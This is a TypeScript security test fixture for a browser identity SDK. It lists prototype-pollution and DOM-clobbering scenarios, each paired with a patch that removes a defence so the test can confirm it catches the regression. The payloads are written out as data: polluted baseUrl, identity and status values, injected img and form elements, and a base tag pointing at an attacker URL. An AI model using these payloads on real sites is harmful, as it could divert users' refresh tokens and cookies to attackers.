import type { Change } from '../../src/fixtures/changed-source.js';
import { product } from '../product.js';
import type { Attack, Scene } from './attack.js';
import { patches } from './patches.js';
import { refused } from './replies.js';
import { noToken, operatorOnTag, token } from './scenes.js';

const pollute = (name: string, value: (scene: Scene) => unknown) => (scene: Scene) =>
  `Object.prototype[${JSON.stringify(name)}] = ${JSON.stringify(value(scene))};`;

const OWN_OPTIONS: Change = {
  file: 'drop-in/options.ts',
  find: '({ __proto__: null, ...given })',
  replace: '({ ...given })',
};
const CURRENT_SCRIPT: Change = {
  file: 'environment/own-script.ts',
  find: "Reflect.get(Document.prototype, 'currentScript', document)",
  replace: 'document.currentScript',
};

/** What is polluted for every object of the page. */
const pollution: Attack[] = [
  {
    name: 'a polluted baseUrl is not where init sends refresh tokens',
    guard: OWN_OPTIONS,
    attributes: operatorOnTag,
    script: pollute('baseUrl', ({ evil }) => evil.url),
    init: () => ({}),
  },
  {
    name: 'a polluted baseUrl is no attribute of the script tag',
    guard: {
      file: 'drop-in/load.ts',
      find: 'script?.getAttribute(`data-',
      replace: "(script as HTMLElement).dataset[name.replace('-u', 'U')] || script?.getAttribute(`data-",
    },
    script: pollute('baseUrl', ({ evil }) => evil.url),
    init: () => ({}),
  },
  {
    name: 'a polluted useCookie puts no refresh token into every request',
    guard: OWN_OPTIONS,
    script: pollute('useCookie', () => true),
    harm: async ({ world }) =>
      (await world.tab.stored()).cookie ? 'the identity is in a cookie' : undefined,
  },
  {
    name: 'a polluted identity is nobody',
    guard: OWN_OPTIONS,
    identity: null,
    script: pollute('identity', ({ world }) => world.operator.issue({ user: 'evil' })),
    harm: async (scene) => ((await token(scene)) ? 'a token of the attacker' : undefined),
  },
  {
    name: 'a polluted status is no opt-out',
    guard: {
      file: 'identity/parse.ts',
      find: "own(value, 'status') === 'optout'",
      replace: "(value as OptOut).status === 'optout'",
    },
    script: pollute('status', () => 'optout'),
    harm: noToken,
  },
  {
    name: 'a polluted status makes no opt-out of a failure',
    guard: {
      file: 'lifecycle/next.ts',
      find: 'isOptOut(outcome)',
      replace: "(outcome as { status?: unknown }).status === 'optout'",
    },
    script: pollute('status', () => 'optout'),
    answer: () => refused,
    harm: noToken,
  },
];

/** What our code looks up on the window and on the document, and what pages keep there for it. */
const LOOKED_UP = [
  ...[
    'fetch',
    'console',
    'crypto',
    'localStorage',
    'indexedDB',
    'performance',
    'location',
    'document',
    'Date',
  ],
  ...[
    'Math',
    'JSON',
    'URL',
    'Promise',
    'AbortSignal',
    'AbortController',
    'setTimeout',
    'clearTimeout',
    'window',
  ],
  ...['hidden', 'currentScript', 'everid', 'googletag', 'globalThis'],
  ...['Helper', 'SecureSignalProvider', '_config'].map((name) => product.global + name),
];

/** Markup without any script of its own, as it comes with a comment or an advertisement. */
const clobbering: Attack[] = [
  {
    name: 'an element in the place of currentScript names no operator',
    guard: CURRENT_SCRIPT,
    markup: ({ evil }) => `<img name="currentScript" data-base-url="${evil.url}">`,
    attributes: operatorOnTag,
    init: () => ({}),
  },
  {
    name: 'an element in the place of currentScript does not switch sealing off',
    guard: CURRENT_SCRIPT,
    markup: () => '<img name="currentScript">',
    attributes: () => 'data-sealed',
    harm: async ({ world }) =>
      (await world.tab.storedIdentity())?.refresh_response_key
        ? 'a response key is stored plainly'
        : undefined,
  },
  {
    name: 'an element in the place of the SDK does not keep the SDK away',
    guard: {
      file: 'drop-in/load.ts',
      find: 'own(page, global)',
      replace: 'page[global]',
    },
    markup: () => `<form id="${product.global}"><input name="init"><input name="callbacks"></form>`,
    script: () => `delete window[${JSON.stringify(product.global)}];`,
    harm: async ({ world }) => {
      const there = await world.tab.page.evaluate(() => typeof window.probe.sdk.init === 'function');
      return there ? undefined : 'there is no SDK';
    },
  },
  {
    name: 'elements in the place of the secure signals script do not throw',
    guard: {
      file: 'drop-in/load.ts',
      find: 'own(page, `',
      replace: '((from: Page, name: string) => from[name])(page, `',
    },
    markup: () =>
      `<form id="${product.global}SecureSignalProvider"><input name="registerSecureSignalProvider"></form>`,
    act: ({ world }) =>
      world.tab.page.evaluate(() => {
        const sdk = window.probe.sdk as unknown as { constructor: { setupGoogleTag(): void } };
        setTimeout(() => sdk.constructor.setupGoogleTag());
        return new Promise((resolve) => setTimeout(resolve));
      }),
  },
  {
    name: 'an element in the place of document.cookie does not outwit a logout',
    guard: { file: 'storage/cookie.ts', find: "value = '?';", replace: '' },
    worksIn: 'firefox',
    markup: () => '<img name="cookie">',
    init: ({ world }) => world.options('cookie'),
    act: ({ world }) => world.tab.disconnect(),
    harm: async ({ world }) => {
      const cookies = await world.context.cookies(world.site.origin);
      return cookies.some(({ name, value }) => name === product.cookie && value)
        ? 'the cookie is left'
        : undefined;
    },
  },
  {
    name: 'elements in the place of everything that is looked up do no harm',
    markup: () => LOOKED_UP.map((name) => `<img name="${name}"><form id="${name}"></form>`).join(''),
    harm: noToken,
  },
  {
    name: 'a base element does not say where code comes from',
    guard: {
      file: 'storage/sealed.ts',
      find: "() => import('./sealing.js')",
      replace: "() => import(new URL('sealed.js', document.baseURI).href)",
    },
    markup: ({ evil }) => `<base href="${evil.url}/">`,
    attributes: () => 'data-sealed',
    act: ({ world }) =>
      world.tab.page.waitForFunction(
        (key) => 'stolen' in window || localStorage.getItem(key)?.includes('"sealed":'),
        product.storageKey,
      ),
  },
];

export const attacks: readonly Attack[] = [...pollution, ...clobbering, ...patches];
